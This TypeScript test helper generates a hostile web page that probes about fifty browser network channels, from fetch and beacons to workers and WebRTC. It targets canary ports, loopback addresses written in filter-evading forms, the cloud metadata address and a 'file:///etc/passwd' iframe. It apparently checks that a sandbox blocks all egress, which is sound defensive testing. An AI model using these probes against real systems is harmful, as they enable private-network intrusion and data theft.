/** Test support: a page that tries every way out it can think of. */

export type Canary = {
  /** On 127.0.0.1, where another port is allowed. */
  port: number
  /** On 127.0.0.2, with the port that is allowed on 127.0.0.1. */
  samePort: number
  /** On every address of this machine. */
  udpPort: number
}

/** Its `hostile()` tries them all and resolves to their names, when each has ended or had its second. */
export function hostilePage({ port, samePort, udpPort }: Canary): string {
  const hosts = [
    `127.0.0.1:${port}`,
    `127.0.0.2:${samePort}`,
    `localhost:${port}`,
    `app.localhost:${port}`,
    `canary.example:${samePort}`,
    `[::1]:${port}`,
    `[::ffff:127.0.0.1]:${port}`,
    `127.1:${port}`,
    `2130706433:${port}`,
    `0x7f.1:${port}`,
    `0177.0.0.1:${port}`,
    `0.0.0.0:${port}`,
    '169.254.169.254',
    'canary.example',
  ]
  return `<!doctype html>
<html>
<head>
<link rel="dns-prefetch" href="//127.0.0.1:${port}">
<link rel="preconnect" href="http://127.0.0.1:${port}">
<link rel="preconnect" href="http://127.0.0.2:${samePort}" crossorigin>
<link rel="prefetch" href="http://127.0.0.1:${port}/prefetch">
<link rel="preload" as="script" href="http://127.0.0.1:${port}/preload">
<link rel="modulepreload" href="http://127.0.0.1:${port}/modulepreload">
<link rel="stylesheet" href="http://127.0.0.1:${port}/style">
<link rel="icon" href="http://127.0.0.1:${port}/icon">
<link rel="manifest" href="http://127.0.0.1:${port}/manifest">
<script type="speculationrules">{"prefetch":[{"urls":["http://127.0.0.1:${port}/rules"]}],"prerender":[{"urls":["http://127.0.0.1:${port}/rules"]}]}</script>
<style>@import url(http://127.0.0.1:${port}/import); body { background: url(http://127.0.0.1:${port}/background) }
@font-face { font-family: x; src: url(http://127.0.0.1:${port}/font) } body { font-family: x }</style>
</head>
<body>text
<script>
const HOSTS = ${JSON.stringify(hosts)}
const PLAIN = HOSTS.map((host) => 'http://' + host + '/')
const second = () => new Promise((done) => setTimeout(done, 1000))

const WAYS = {
  fetch: (url) => fetch(url),
  'fetch without cors': (url) => fetch(url, { mode: 'no-cors' }),
  'fetch with a body': (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'x' }),
  'fetch over https': (url) => fetch(url.replace('http:', 'https:'), { mode: 'no-cors' }),
  'keepalive fetch': (url) => fetch(url, { mode: 'no-cors', keepalive: true }),
  'fetch by redirect': (url) => fetch('/redirect?to=' + encodeURIComponent(url), { mode: 'no-cors' }),
  XMLHttpRequest: (url) => new Promise((done) => {
    const request = new XMLHttpRequest()
    request.onloadend = done
    request.open('GET', url)
    request.send()
  }),
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  WebSocket: (url) => ended(new WebSocket(url.replace('http', 'ws')), 'close'),
  'secure WebSocket': (url) => ended(new WebSocket(url.replace('http', 'wss')), 'close'),
  EventSource: (url) => ended(new EventSource(url), 'error'),
  image: (url) => element('img', { src: url }),
  'image by redirect': (url) => element('img', { src: '/redirect?to=' + encodeURIComponent(url) }),
  srcset: (url) => element('img', { srcset: url + ' 2x' }),
  script: (url) => element('script', { src: url }),
  'module script': (url) => element('script', { src: url, type: 'module' }),
  'dynamic import': (url) => import(url),
  iframe: (url) => element('iframe', { src: url }),
  'iframe by redirect': (url) => element('iframe', { src: '/redirect?to=' + encodeURIComponent(url) }),
  'sandboxed iframe': (url) => element('iframe', { src: url, sandbox: 'allow-scripts' }),
  'iframe with a document of its own': (url) => element('iframe', { srcdoc: '<img src="' + url + '"><script src="' + url + '"><\\/script>' }),
  'data iframe': (url) => element('iframe', { src: 'data:text/html,<img src="' + url + '">' }),
  'blob iframe': (url) => element('iframe', { src: URL.createObjectURL(new Blob(['<img src="' + url + '">'], { type: 'text/html' })) }),
  'refreshing iframe': (url) => element('iframe', { srcdoc: '<meta http-equiv=refresh content="0;url=' + url + '">' }),
  'iframe that navigates itself': (url) => element('iframe', { srcdoc: '<script>location = ' + JSON.stringify(url) + '<\\/script>' }),
  object: (url) => element('object', { data: url }),
  embed: (url) => element('embed', { src: url }),
  video: (url) => element('video', { src: url, preload: 'auto' }),
  audio: (url) => element('audio', { src: url, preload: 'auto' }),
  track: (url) => { const video = document.createElement('video'); video.innerHTML = '<track default src="' + url + '">'; document.body.append(video) },
  poster: (url) => element('video', { poster: url }),
  'svg image': (url) => { const box = document.createElement('div'); box.innerHTML = '<svg><image href="' + url + '"/><use href="' + url + '#x"/></svg>'; document.body.append(box) },
  'style sheet': (url) => element('link', { rel: 'stylesheet', href: url }),
  prefetch: (url) => element('link', { rel: 'prefetch', href: url }),
  preconnect: (url) => element('link', { rel: 'preconnect', href: url }),
  'constructed style': (url) => { const sheet = new CSSStyleSheet(); sheet.replaceSync('body { cursor: url(' + url + '), auto; list-style: url(' + url + ') }'); document.adoptedStyleSheets.push(sheet) },
  FontFace: (url) => new FontFace('f', 'url(' + url + ')').load(),
  form: (url) => { const frame = element('iframe', { name: 'form' + Math.random() }); const form = document.createElement('form'); Object.assign(form, { action: url, method: 'post' }); form.target = frame.name ?? ''; document.body.append(form); form.submit() },
  popup: (url) => open(url, '_blank'),
  'link with ping': (url) => { const link = document.createElement('a'); Object.assign(link, { href: '#', ping: url }); document.body.append(link); link.click() },
  'download link': (url) => { const link = document.createElement('a'); element('iframe', { name: 'download' }); Object.assign(link, { href: url, download: 'x', target: 'download' }); document.body.append(link); link.click() },
  worker: (url) => asWorker('/worker.js', url),
  'blob worker': (url) => asWorker(URL.createObjectURL(new Blob(['onmessage = async ({ data }) => { for (const url of data) await fetch(url, { mode: "no-cors" }).catch(() => {}); postMessage(1) }'])), url),
  'shared worker': (url) => new SharedWorker('data:text/javascript,fetch("' + url + '",{mode:"no-cors"})'),
  'service worker': (url) => navigator.serviceWorker.register('/redirect?to=' + encodeURIComponent(url)),
  worklet: (url) => CSS.paintWorklet?.addModule(url),
  WebTransport: (url) => new WebTransport(url.replace('http:', 'https:')).ready,
  'credentials in the URL': (url) => fetch(url.replace('//', '//u:p@'), { mode: 'no-cors' }),
  'other schemes': (url) => Promise.allSettled(['ftp', 'file', 'chrome', 'view-source:http', 'devtools', 'gopher'].map((scheme) => fetch(url.replace('http', scheme)))),
  'file iframe': () => element('iframe', { src: 'file:///etc/passwd' }),
  'background fetch': async (url) => (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', [url]),
  'STUN over UDP': () => Promise.all(['127.0.0.1', '127.0.0.2'].map((host) => candidates('stun:' + host + ':${udpPort}'))),
  'TURN over UDP': () => candidates('turn:127.0.0.1:${udpPort}?transport=udp'),
  'TURN over TCP': () => candidates('turn:127.0.0.1:${port}?transport=tcp'),
}

function element(name, attributes) {
  const made = document.createElement(name)
  for (const [attribute, value] of Object.entries(attributes)) made.setAttribute(attribute, value)
  document.body.append(made)
  return made
}
function ended(source, event) {
  return new Promise((done) => source.addEventListener(event, () => { source.close(); done() }))
}
function asWorker(script, url) {
  const worker = new Worker(script)
  worker.postMessage([url])
  return ended(Object.assign(worker, { close: () => worker.terminate() }), 'message')
}
async function candidates(urls) {
  const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'p' }] })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
  await second()
  connection.close()
}

async function hostile() {
  const tried = []
  for (const [name, way] of Object.entries(WAYS)) {
    tried.push(name)
    // An image or frame ends by itself; what is waited for ends or has its second.
    const attempts = PLAIN.map(async (url) => way(url)).map((attempt) => Promise.race([attempt.catch(() => {}), second()]))
    await Promise.all(attempts)
  }
  await second()
  return tried
}
</script>
</body>
</html>`
}
